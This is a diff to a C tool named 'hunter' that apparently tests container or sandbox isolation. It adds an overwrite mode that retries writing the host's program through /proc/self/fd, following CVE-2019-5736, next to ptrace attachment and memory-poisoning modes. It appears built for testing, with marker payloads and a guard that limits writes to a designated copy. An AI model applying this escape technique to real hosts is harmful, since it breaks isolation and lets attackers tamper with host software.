@@ -6,7 +6,9 @@
  *   hunter watch SECRET FILE  looks for what is the host's: SECRET in the
  *                             environment or the memory, FILE under the root
  *                             or the working directory, descriptors, and tries
- *                             to attach and to write to the program's file
+ *                             to attach
+ *   hunter overwrite          writes to the program's file, if that is a copy
+ *                             made for it, "the-hosts-program", or a memfd
  *   hunter poison             writes a program over its memory that makes
  *                             /tmp/poisoned, without a filter if it can
  *   hunter stop               leaves it stopped
@@ -155,16 +157,20 @@ static void descriptors(pid_t pid)
 		close(pidfd);
 }
 
-/* CVE-2019-5736: by way of a descriptor that outlives the process. */
+/* CVE-2019-5736: by way of a descriptor that outlives the process, once nobody
+   runs the program any more (until then: ETXTBSY). */
 static void overwrite(int program, const char *exe)
 {
 	char path[64];
 	int fd;
 
 	snprintf(path, sizeof path, "/proc/self/fd/%d", program);
-	fd = open(path, O_WRONLY);
-	if (fd < 0)
-		fd = open(path, O_RDWR);
+	for (int tries = 0; tries < 4000; tries++) {
+		fd = open(path, O_WRONLY);
+		if (fd >= 0 || errno != ETXTBSY)
+			break;
+		usleep(1000);
+	}
 	if (fd < 0)
 		return;
 	if (pwrite(fd, "#", 1, 0) == 1)
@@ -172,19 +178,8 @@ static void overwrite(int program, const char *exe)
 	close(fd);
 }
 
-static void watch(pid_t pid)
+static void watch(pid_t pid, char *exe, size_t size)
 {
-	char exe[PATH_MAX];
-	int program;
-
-	settle(pid);
-	if (!early(pid, exe, sizeof exe)) {
-		printf("late\n");
-		kill(pid, SIGCONT);
-		return;
-	}
-	program = open(in(pid, "exe"), O_RDONLY);
-	printf("early %s\n", exe[0] ? exe : "(hidden)");
 	leads_out(pid, "root");
 	leads_out(pid, "cwd");
 	descriptors(pid);
@@ -194,15 +189,35 @@ static void watch(pid_t pid)
 		int status;
 
 		waitpid(pid, &status, __WALL);
-		if (early(pid, exe, sizeof exe))
+		if (early(pid, exe, size))
 			printf("leak attached to %s\n", exe);
 		ptrace(PTRACE_DETACH, pid, 0, 0);
 	}
-	if (program >= 0)
-		overwrite(program, exe);
+}
+
+/* Whether it may be written to: never a program that others use. */
+static int is_fair_game(const char *exe)
+{
+	return strstr(exe, "/the-hosts-program") || strncmp(exe, "/memfd:", 7) == 0;
+}
+
+static void catch(pid_t pid, int writes)
+{
+	char exe[PATH_MAX];
+	int program = -1;
+
+	settle(pid);
+	if (!early(pid, exe, sizeof exe)) {
+		printf("late\n");
+		kill(pid, SIGCONT);
+		return;
+	}
+	printf("early %s\n", exe[0] ? exe : "(hidden)");
+	if (!writes)
+		watch(pid, exe, sizeof exe);
+	else if (is_fair_game(exe))
+		program = open(in(pid, "exe"), O_RDONLY);
 	kill(pid, SIGCONT);
-	for (int tries = 0; tries < 100 && kill(pid, 0) == 0; tries++)
-		usleep(500);
 	if (program >= 0) {
 		overwrite(program, exe);
 		close(program);
@@ -258,8 +273,8 @@ static void hunt(const char *mode, pid_t pid)
 		return;
 	}
 	kill(pid, SIGSTOP);
-	if (mode[0] == 'w')
-		watch(pid);
+	if (mode[0] == 'w' || mode[0] == 'o')
+		catch(pid, mode[0] == 'o');
 	else if (mode[0] == 'p')
 		poison(pid);
 	else
